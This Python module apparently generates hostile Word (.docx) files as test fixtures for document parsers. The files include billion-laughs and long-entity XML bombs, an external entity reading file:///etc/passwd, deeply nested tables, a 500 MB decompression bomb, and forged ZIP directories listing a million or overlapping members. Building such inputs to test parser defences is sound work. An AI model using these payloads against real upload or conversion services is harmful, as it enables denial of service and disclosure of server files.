"""Word files whose XML, or whose package, has no end."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator
from functools import partial

from hostile.model import Hostile
from hostile.packages import Content, body, paragraph, word_parts, zipped

_LAUGHS = 10
_DEPTH = 200_000


def docx(document: Content) -> bytes:
    """A Word file around ``word/document.xml``."""
    return zipped(word_parts(document))


def laughs(levels: int = _LAUGHS) -> bytes:
    """Billion laughs: each entity is ten of the one before."""
    entities = '<!ENTITY a0 "哈">' + "".join(
        f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, levels)
    )
    return docx(body(paragraph(f"&a{levels - 1};"), f"<!DOCTYPE d [{entities}]>"))


def one_long_entity(size: int = 50_000, times: int = 50_000) -> bytes:
    """One long entity named many times, which no count of levels finds."""
    return docx(body(paragraph("&a;" * times), f'<!DOCTYPE d [<!ENTITY a "{"a" * size}">]>'))


def outside_entity() -> bytes:
    """An entity that is a file of the server."""
    return docx(body(paragraph("&a;"), '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>'))


def nested(depth: int = _DEPTH) -> bytes:
    """Tables within tables, two hundred thousand deep."""
    return docx(body("<w:tbl><w:tr><w:tc>" * depth + "</w:tc></w:tr></w:tbl>" * depth))


def large(megabytes: int = 500) -> bytes:
    """A document of 500 MB that weighs half a megabyte."""
    return docx(_megabytes(megabytes))


def _megabytes(count: int) -> Iterator[bytes]:
    one = paragraph("新建社区菜店。").encode()
    block = one * ((1 << 20) // len(one))
    before, after = body("|").split("|")
    yield before.encode()
    for _ in range(count):
        yield block
    yield after.encode()


def below_every_limit(megabytes: int = 60) -> bytes:
    """As much XML as one part may have, packed too little to look like a bomb."""
    return docx(_varied(megabytes))


def _varied(megabytes: int) -> Iterator[bytes]:
    before, after = body("|").split("|")
    yield before.encode()
    for number in range(megabytes):
        rows = (
            paragraph(f"第{(number * 7919 + row * 104_729) % 1_000_003}项工作。") for row in range(12_000)
        )
        yield "".join(rows).encode()[: 1 << 20].rpartition(b"<w:p>")[0]
    yield after.encode()


def many_members(count: int = 1_000_000) -> bytes:
    """A package that lists a million members, all of which are the same few bytes."""
    parts = word_parts(body(paragraph("一")))
    whole = zipped(parts)
    with zipfile.ZipFile(io.BytesIO(whole)) as package:
        start = package.start_dir
    sound = whole[start : whole.rindex(b"PK\x05\x06")]
    entry = struct.pack(
        "<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 0, 20, 0, 0, 0, 0, 0x21, 0, 0, 0, 5, 0, 0, 0, 0, 0, 0
    )
    more = count - len(parts)
    listed = sound + b"".join(entry + b"%05x" % number for number in range(more))
    end64 = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(listed), start)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, start + len(listed), 1)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return b"".join((whole[:start], listed, end64, locator, end))


def overlapping(count: int = 4000, megabytes: int = 40) -> bytes:
    """Thousands of members that lie on one another: one stream of 40 MB, listed 4,000 times."""
    whole = zipped({**word_parts(body(paragraph("一"))), "word/theme/a.xml": _blank(megabytes)})
    with zipfile.ZipFile(io.BytesIO(whole)) as package:
        start = package.start_dir
    sound = whole[start : whole.rindex(b"PK\x05\x06")]
    last = sound[sound.rindex(b"PK\x01\x02") :]
    listed = sound + b"".join(last.replace(b"a.xml", b"%05x" % number) for number in range(count))
    total = count + 4
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, total, total, len(listed), start, 0)
    return whole[:start] + listed + end


def _blank(megabytes: int) -> Iterator[bytes]:
    for _ in range(megabytes):
        yield b" " * (1 << 20)


DOCUMENTS = (
    Hostile("Word file that laughs", "报告.docx", "10^9 characters of entities", partial(laughs)),
    Hostile("Word file of one long entity", "报告.docx", "2.5 GB of entities", partial(one_long_entity)),
    Hostile("Word file with an outside entity", "报告.docx", "a file of the server", outside_entity),
    Hostile("Word file nested deep", "报告.docx", "600,000 levels", partial(nested)),
    Hostile("Word file of 500 MB", "报告.docx", "500 MB of XML", partial(large)),
    Hostile("Word file below every limit", "报告.docx", "60 MB of XML", partial(below_every_limit)),
    Hostile("Word file of a million members", "报告.docx", "a million members", partial(many_members)),
    Hostile("Word file of overlapping members", "报告.docx", "160 GB", partial(overlapping)),
)
